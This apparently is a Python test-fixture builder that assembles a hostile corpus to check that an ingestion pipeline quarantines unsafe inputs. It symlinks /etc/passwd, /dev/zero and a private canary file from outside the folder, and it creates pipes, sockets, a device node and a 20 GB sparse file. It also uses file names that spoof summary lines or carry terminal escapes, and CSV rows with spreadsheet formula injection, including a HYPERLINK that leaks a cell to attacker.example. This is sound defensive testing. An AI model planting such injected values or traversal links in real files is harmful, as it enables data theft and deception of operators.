"""Builder of the security corpus: the seeds plus what an attacker or an unlucky operator drops.

Beside the source folder sits a folder of private files (the "outside"), holding a canary
article: if its words ever reach the warehouse, a link led the run out of the source folder.
"""

from __future__ import annotations

import os
import shutil
import socket
import stat
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"

CANARY = "Canary Hospital"
CANARY_ARTICLE = (
    "Private notes\n\n"
    "Friday 3 March 2023 10:00 GMT\n\n"
    f"Staff at {CANARY} began a 48-hour strike at 7am, and 120 operations were cancelled.\n"
)
ARTICLE = (
    "Porters walk out\n\n"
    "Monday 6 March 2023 09:00 GMT\n\n"
    "Porters at a district hospital began a 24-hour strike at 8am on Monday.\n"
)
# names that, printed raw, would fake summary lines or repaint the terminal
FAKE_SUMMARY_NAME = "evil\nWarning: none. All 42 files loaded cleanly.txt"
ANSI_NAME = "\x1b[2J\x1b[Hwiped.txt"
FORMULA_NAME = "=1+1.txt"
FORMULA_PUBLISHER = '=HYPERLINK("http://attacker.example/?leak="&A1,"details")'
AMBIGUOUS_NAME = "same_name.txt"
AMBIGUOUS_PUBLISHER = "Applied To Neither"

# source_file -> reason kind expected in quarantine (discovery or reading)
OUTSIDE_LINKS = {
    "etc_passwd.txt": "outside_link",
    "canary_absolute.txt": "outside_link",
    "canary_relative.txt": "outside_link",
    "nested/canary_up.txt": "outside_link",
    "dev_zero.txt": "outside_link",
}


@dataclass
class SecurityCorpus:
    source: Path
    outside: Path
    special: dict[str, str] = field(default_factory=dict)  # special files made: name -> kind
    open_sockets: list[socket.socket] = field(default_factory=list)

    def close(self) -> None:
        for sock in self.open_sockets:
            sock.close()


def build_security_corpus(folder: Path, with_special_files: bool = True) -> SecurityCorpus:
    """Seeds, links out of the folder, special files, hostile names and a hostile manifest."""
    source, outside = folder / "source", folder / "outside"
    shutil.copytree(SEEDS, source)
    outside.mkdir()
    (outside / "private.txt").write_text(CANARY_ARTICLE, encoding="utf-8")
    corpus = SecurityCorpus(source, outside)

    os.symlink("/etc/passwd", source / "etc_passwd.txt")
    os.symlink(outside / "private.txt", source / "canary_absolute.txt")
    os.symlink("../outside/private.txt", source / "canary_relative.txt")
    (source / "nested").mkdir()
    os.symlink("../../outside/private.txt", source / "nested" / "canary_up.txt")
    os.symlink("/dev/zero", source / "dev_zero.txt")
    # a link that stays inside the folder is followed: its target is an article
    (source / ".kept").mkdir()
    (source / ".kept" / "porters.txt").write_text(ARTICLE, encoding="utf-8")
    os.symlink(".kept/porters.txt", source / "inside_link.txt")

    for name in (FAKE_SUMMARY_NAME, ANSI_NAME):
        (source / name).write_bytes(b"")  # quarantined as empty: the name reaches the summary
    (source / FORMULA_NAME).write_text(ARTICLE.replace("Porters", "Cleaners"), encoding="utf-8")
    for sub in ("a", "b"):
        (source / sub).mkdir()
        (source / sub / AMBIGUOUS_NAME).write_text(
            ARTICLE.replace("district", f"{sub}-district"), encoding="utf-8"
        )

    if with_special_files:
        os.mkfifo(source / "pipe.txt")
        corpus.special["pipe.txt"] = "not_regular"
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(str(source / "socket.txt"))
        corpus.open_sockets.append(server)
        corpus.special["socket.txt"] = "not_regular"
        try:  # a device node needs root (CAP_MKNOD); CI runs as root
            os.mknod(source / "zero_device.txt", stat.S_IFCHR | 0o644, os.makedev(1, 5))
            corpus.special["zero_device.txt"] = "not_regular"
        except PermissionError:
            pass
        with open(source / "sparse_20gb.txt", "wb") as handle:
            handle.truncate(20 * 1024**3)  # sparse: no disk used, 20 GB to a careless reader
        corpus.special["sparse_20gb.txt"] = "too_large"

    manifest = source / "sources.csv"
    lines = manifest.read_text(encoding="utf-8").rstrip("\n").split("\n")
    lines += [
        f'{FORMULA_NAME},"{FORMULA_PUBLISHER.replace(chr(34), chr(34) * 2)}",,2023-03-06',
        f"{AMBIGUOUS_NAME},{AMBIGUOUS_PUBLISHER},,2023-03-06",
        "inside_link.txt,@SUM(1+1),,2023-03-06",
    ]
    manifest.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return corpus
